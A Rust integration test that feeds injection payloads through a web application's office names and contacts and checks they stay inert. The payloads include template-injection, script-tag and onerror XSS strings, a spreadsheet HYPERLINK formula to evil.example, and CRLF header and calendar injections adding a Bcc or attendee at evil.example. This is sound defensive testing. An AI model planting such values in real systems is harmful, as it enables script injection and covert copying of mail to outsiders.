//! Names and texts that mean harm: whatever an office is called stays a name in mails, calendars, pages and lists.

use chrono::Duration;
use tsudoi::contacts::Channel;

use crate::invitations::Region;
use crate::invitations::fixture::Office;

const NAMES: [(&str, &str); 6] = [
    ("template@hostile.example", "{{ 7 * 7 }}{% include \"accounts/views/me.html\" %}"),
    ("script@hostile.example", "<script>alert(1)</script>\"><img src=x onerror=alert(2)>"),
    ("formula@hostile.example", "=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("header@hostile.example", "作業所\r\nBcc: spy@evil.example\r\n\r\nevil"),
    ("calendar@hostile.example", "作業所\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTENDEE:mailto:spy@evil.example"),
    ("turned@hostile.example", "\u{202e}作業所\u{0}\u{7}"),
];

#[actix_web::test]
async fn a_name_that_means_harm_stays_a_name_wherever_it_is_written() {
    let region = Region::new().await;
    let test = &region.test;
    let mut offices = Vec::new();
    for (email, name) in NAMES {
        // PostgreSQL keeps no NUL in a text; where it cannot be typed it cannot harm.
        let name = name.replace('\u{0}', "");
        let office = Office { name: &name, email, kind: "transition", ..Office::default() };
        let office = test.office(office).await;
        test.contact(office, &name, &name, &name, email).await;
        offices.push(office);
    }
    let paper = Office {
        name: NAMES[1].1,
        channel: Some(Channel::Fax),
        fax: "000-000-2009",
        address: NAMES[1].1,
        kind: "transition",
        ..Office::default()
    };
    test.office(paper).await;
    let mut staff = test.staff().await;
    let wave = region.open(&mut staff).await;
    test.advance(Duration::minutes(2)).await;
    for (email, _) in NAMES {
        let mails = test.mails_to(email);
        assert_eq!(mails.len(), 1, "{email}");
        let mail = &mails[0];
        let raw = String::from_utf8_lossy(&mail.raw).into_owned();
        let (head, _) = raw.split_once("\r\n\r\n").unwrap();
        let named = |name: &str| head.lines().filter(|line| line.to_lowercase().starts_with(name)).count();
        assert_eq!((named("to:"), named("bcc:"), named("cc:"), named("subject:")), (1, 0, 0, 1), "{head}");
        let entry = mail.calendar();
        let lines = |start: &str| entry.lines().filter(|line| line.starts_with(start)).count();
        assert_eq!((lines("BEGIN:VEVENT"), lines("ATTENDEE"), lines("ORGANIZER")), (1, 1, 1), "{entry}");
        let html = mail.html();
        assert!(!html.contains("<script") && !html.contains("<img src=x"), "{html}");
    }
    let mails = test.mails_to("template@hostile.example");
    assert!(mails[0].text().contains("{{ 7 * 7 }}{% include"), "{}", mails[0].text());

    let gathering = region.gathering;
    let mut pages = vec![
        wave.clone(),
        format!("/gatherings/{gathering}/invite"),
        format!("/gatherings/{gathering}/sheets"),
        format!("/gatherings/{gathering}/replies"),
        format!("/gatherings/{gathering}/day/list"),
        format!("/gatherings/{gathering}/report"),
        "/organizations".to_owned(),
        "/outbox".to_owned(),
        "/today".to_owned(),
        "/history".to_owned(),
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E".to_owned(),
    ];
    pages.extend(offices.iter().map(|office| format!("/organizations/{office}")));
    for path in pages {
        let status = staff.get(&path).await.unwrap();
        let text = staff.page.text();
        assert!(status == 200 || status == 404, "{path}: {status}");
        assert!(!text.contains("<script>alert") && !text.contains("<img src=x"), "{path}: {text}");
        assert!(!text.contains(">49<"), "{path} counted for a stranger");
    }
}
